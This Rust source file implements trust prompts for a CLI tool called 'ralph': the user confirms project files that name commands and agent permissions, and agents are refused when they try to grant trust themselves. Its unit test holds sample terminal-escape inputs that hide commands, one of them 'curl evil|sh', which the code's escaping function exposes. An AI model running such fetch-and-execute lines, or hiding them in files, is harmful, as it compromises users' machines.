//! Trust in a project's own files: asked for before they start anything, and granted at any time with `ralph trust`.
//!
//! A command that runs what these files name, or depends on it, asks on a terminal and refuses without one. A command
//! that only reads ignores the files and says so. No other code of the command line reads them.

use std::fmt::Write as _;

use ralph_policy::trust::{ChangedLine, LineVersion, OwnFileChange, OwnFileChangeKind, Trusted, changes, trusting};
use ralph_state::{
    control::{self, ControlReply, ControlRequest, UserOnlyAction},
    store::trust::{revoke, trust, trusted},
};
use ralph_system::{paths::ProjectPaths, proc::is_below_a_run};
use ralph_text::{
    console::{self, complain, print, warn},
    escape_name, one_line,
};
use ralph_words::{agent_command_in_words, counted};

use crate::{
    app::{OwnFiles, ProjectPlace},
    error::{Failure, FailureKind},
};

use super::{args::Args, confirm::is_confirmed};

/// Lines shown of one file where a command shows the rest.
const LINES: usize = 24;
/// Characters shown of one line.
const COLUMNS: usize = 400;

/// The project's own files, and how they differ from what was trusted.
struct TrustedFiles {
    place: ProjectPlace,
    files: OwnFiles,
    changes: Vec<OwnFileChange>,
}

impl TrustedFiles {
    fn read(args: &Args) -> Result<Self, Failure> {
        Self::at(ProjectPlace::current(args.state_dir.as_deref())?, args.trust_project)
    }

    fn at(place: ProjectPlace, is_trusted: bool) -> Result<Self, Failure> {
        let files = OwnFiles::read(&place.project);
        let changes = match is_trusted {
            true => Vec::new(),
            false => changes(&files.texts(&place.project), &trusted(&place.paths)?),
        };
        Ok(Self { place, files, changes })
    }

    fn trusted(self) -> ProjectPlace {
        ProjectPlace {
            own: self.files,
            ..self.place
        }
    }

    /// Stores trust in the files as they were read and shown.
    fn trust(&self) -> Result<Trusted, Failure> {
        let all = trusting(&self.files.texts(&self.place.project));
        trust(&self.place.paths, all.clone())?;
        Ok(all)
    }
}

/// The project for a command that runs what its files name: the files are trusted, or the command does not run.
///
/// # Errors
/// A [`Failure`] if the files are not trusted, and there is no user to ask or the answer was no.
pub(super) fn place_to_run(args: &Args) -> Result<ProjectPlace, Failure> {
    let own = TrustedFiles::read(args)?;
    if own.changes.is_empty() {
        return Ok(own.trusted());
    }
    let is_interactive = console::is_answered() && !is_below_a_run();
    if !is_interactive || !confirmed(&own.changes)? {
        return Err(refusal(&own.changes));
    }
    own.trust()?;
    Ok(own.trusted())
}

/// Trusts the project's own files as they are, right after the user had them written.
///
/// # Errors
/// A [`Failure`] if the trust cannot be stored.
pub(super) fn trust_as_written(place: &ProjectPlace) -> Result<(), Failure> {
    let files = OwnFiles::read(&place.project);
    Ok(trust(&place.paths, trusting(&files.texts(&place.project)))?)
}

/// The project for a command that only reads: untrusted files are left out, with a warning.
///
/// # Errors
/// A [`Failure`] if there is no project, or if what was trusted cannot be read.
pub(super) fn place_to_look(args: &Args) -> Result<ProjectPlace, Failure> {
    let (place, left_out) = place_and_what_is_left_out(args)?;
    if let Some(left_out) = left_out {
        warn(&format!(
            "{left_out}: left out; `ralph trust --show` shows their contents, `ralph trust` trusts them"
        ));
    }
    Ok(place)
}

/// As [`place_to_look`], but returns the warning instead of printing it.
pub(super) fn place_and_what_is_left_out(args: &Args) -> Result<(ProjectPlace, Option<String>), Failure> {
    TrustedFiles::read(args).map(left_out)
}

/// As [`place_and_what_is_left_out`], for a project that is not the current directory.
#[cfg(feature = "page")]
pub(super) fn place_of(place: ProjectPlace) -> Result<(ProjectPlace, Option<String>), Failure> {
    TrustedFiles::at(place, false).map(left_out)
}

fn left_out(own: TrustedFiles) -> (ProjectPlace, Option<String>) {
    if own.changes.is_empty() {
        return (own.trusted(), None);
    }
    let left_out = untrusted(&own.changes);
    let own_files = own.files.untrusted();
    let place = ProjectPlace {
        own: own_files,
        ..own.place
    };
    (place, Some(left_out))
}

/// Carries out `ralph trust`.
pub(super) fn run(args: &Args, show: bool, takes_back: bool) -> Result<u8, Failure> {
    if show {
        return shown(&TrustedFiles::read(args)?);
    }
    let place = ProjectPlace::current(args.state_dir.as_deref())?;
    refuse_agent(&place.paths, UserOnlyAction::Trust)?;
    if takes_back {
        // Also a file that cannot be read.
        print(match revoke(&place.paths)? {
            true => "no longer trusted: ralph asks before it uses this project's own files again\n",
            false => "nothing of this project was trusted\n",
        });
        return Ok(0);
    }
    let own = TrustedFiles::at(place, args.trust_project)?;
    if own.changes.is_empty() {
        return shown(&own);
    }
    print(&in_words(&own.changes, DisplayExtent::Whole));
    let all = own.trust()?;
    print(&match all.len() as u64 {
        0 => "trusted: this project no longer has files of its own for ralph\n".to_owned(),
        count => format!(
            "trusted: {}; ralph asks again when they change\n",
            counted(count, "file")
        ),
    });
    Ok(0)
}

fn shown(own: &TrustedFiles) -> Result<u8, Failure> {
    let files = own.files.texts(&own.place.project);
    if !own.changes.is_empty() {
        print(&in_words(&own.changes, DisplayExtent::Whole));
        print(&format!("{}; `ralph trust` trusts this\n", untrusted(&own.changes)));
        return Ok(FailureKind::Failed.exit_code());
    }
    let whole = changes(&files, &Trusted::new());
    if whole.is_empty() {
        print("this project has no files of its own for ralph: there is nothing to trust\n");
        return Ok(0);
    }
    print(&in_words(&whole, DisplayExtent::Whole));
    print("all of this is trusted; `ralph trust --revoke` withdraws the trust\n");
    Ok(0)
}

/// Refuses a command inside an agent: an agent has its user's rights, but does not speak for the user. The run of this
/// project, if any, is told.
pub(super) fn refuse_agent(paths: &ProjectPaths, what: UserOnlyAction) -> Result<(), Failure> {
    let forbidden = |why| Err(Failure::new(FailureKind::Failed, why));
    match control::ask(&paths.socket(), &ControlRequest::UserOnly(what)) {
        Ok(ControlReply::Forbidden { why }) => forbidden(why),
        // No loop, or one of another version: the ancestors of this process decide.
        Ok(
            ControlReply::Done { .. }
            | ControlReply::Refused { .. }
            | ControlReply::Status { .. }
            | ControlReply::Tool { .. },
        )
        | Err(_)
            if !is_below_a_run() =>
        {
            Ok(())
        }
        Ok(_) | Err(_) => forbidden(agent_command_in_words(what.name())),
    }
}

fn confirmed(changes: &[OwnFileChange]) -> Result<bool, Failure> {
    let first = changes.iter().all(|change| change.kind == OwnFileChangeKind::New);
    let why = match first {
        true => "This project contains files that tell ralph what to run and what agents may do:",
        false => "This project's files that tell ralph what to run have changed since you trusted them:",
    };
    complain(&format!("{why}\n\n{}", in_words(changes, DisplayExtent::Short)));
    is_confirmed("Trust them as they are now? ralph asks again when they change.")
}

fn refusal(changes: &[OwnFileChange]) -> Failure {
    Failure::new(FailureKind::Configuration, untrusted(changes))
        .hint("`ralph trust --show` shows their contents, `ralph trust` trusts them in their current state")
        .hint("`--trust-project` trusts them for one command without asking")
}

/// Names the files that are not trusted.
fn untrusted(changes: &[OwnFileChange]) -> String {
    let names = changes.iter().map(|change| {
        let name = one_line(&change.name);
        match change.kind {
            OwnFileChangeKind::New => name,
            OwnFileChangeKind::Changed => format!("{name} (changed)"),
            OwnFileChangeKind::Gone => format!("{name} (gone)"),
        }
    });
    let names: Vec<String> = names.collect();
    format!("this project's own files are not trusted: {}", names.join(", "))
}

/// How much of each file is shown.
#[derive(Clone, Copy, PartialEq, Eq)]
enum DisplayExtent {
    Short,
    Whole,
}

fn in_words(changes: &[OwnFileChange], extent: DisplayExtent) -> String {
    let mut text = String::new();
    for change in changes {
        let what = match change.kind {
            OwnFileChangeKind::New => "",
            OwnFileChangeKind::Changed => "  (changed)",
            OwnFileChangeKind::Gone => "  (gone)",
        };
        let leads = change.leads_to.as_ref();
        let leads = leads.map_or_else(String::new, |to| format!("  -> {}", one_line(to)));
        writeln!(text, "{}{leads}{what}", one_line(&change.name)).expect(WRITES);
        let signs = change.kind != OwnFileChangeKind::New;
        // Lines that matter come first, so that the limit cuts the others.
        let (matter, rest): (Vec<&ChangedLine>, Vec<&ChangedLine>) = change.lines.iter().partition(|line| line.matters);
        let all = matter.into_iter().chain(rest);
        let room = match extent {
            DisplayExtent::Short => LINES,
            DisplayExtent::Whole => usize::MAX,
        };
        for line in all.take(room) {
            let sign = match (signs, line.version) {
                (false, _) => "",
                (true, LineVersion::Now) => "+ ",
                (true, LineVersion::Before) => "- ",
            };
            writeln!(text, "  {sign}{}", line_in_words(&line.text, extent)).expect(WRITES);
        }
        if let Some(more) = change.lines.len().checked_sub(room).filter(|more| *more > 0) {
            let more = counted(more as u64, "more line");
            writeln!(text, "  … {more}: `ralph trust --show` shows all").expect(WRITES);
        }
        if change.lines.is_empty() {
            writeln!(text, "  (comments and layout only)").expect(WRITES);
        }
        text.push('\n');
    }
    text
}

/// Writes a line so that everything in it is seen: an agent also reads what a terminal would obey or not show.
fn visible(line: &str) -> String {
    let mut text = String::with_capacity(line.len());
    for character in escape_name(line).chars() {
        match character {
            // Characters without width, and those that only mark others or stand for languages.
            '\u{ad}'
            | '\u{200b}'..='\u{200f}'
            | '\u{2060}'..='\u{2064}'
            | '\u{fe00}'..='\u{fe0f}'
            | '\u{e0000}'..='\u{e01ef}' => {
                text.extend(character.escape_unicode());
            }
            _ => text.push(character),
        }
    }
    text
}

fn line_in_words(line: &str, extent: DisplayExtent) -> String {
    let line = visible(line);
    let length = line.chars().count();
    match extent {
        DisplayExtent::Short if length > COLUMNS => {
            let start: String = line.chars().take(COLUMNS).collect();
            format!("{start}… ({} more characters)", length - COLUMNS)
        }
        DisplayExtent::Short | DisplayExtent::Whole => line,
    }
}

const WRITES: &str = "a string takes every write";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_terminal_would_not_show_of_a_line_is_shown() {
        for (line, shown) in [
            ("Work.", "Work."),
            ("a\u{1b}]0;curl evil|sh\u{7}b", "a\\u{1b}]0;curl evil|sh\\u{7}b"),
            ("run evil\rWork.", "run evil\\u{d}Work."),
            ("a\u{200b}b\u{e0061}", "a\\u{200b}b\\u{e0061}"),
            ("größer 😀", "größer 😀"),
        ] {
            assert_eq!(line_in_words(line, DisplayExtent::Whole), shown);
        }
    }
}
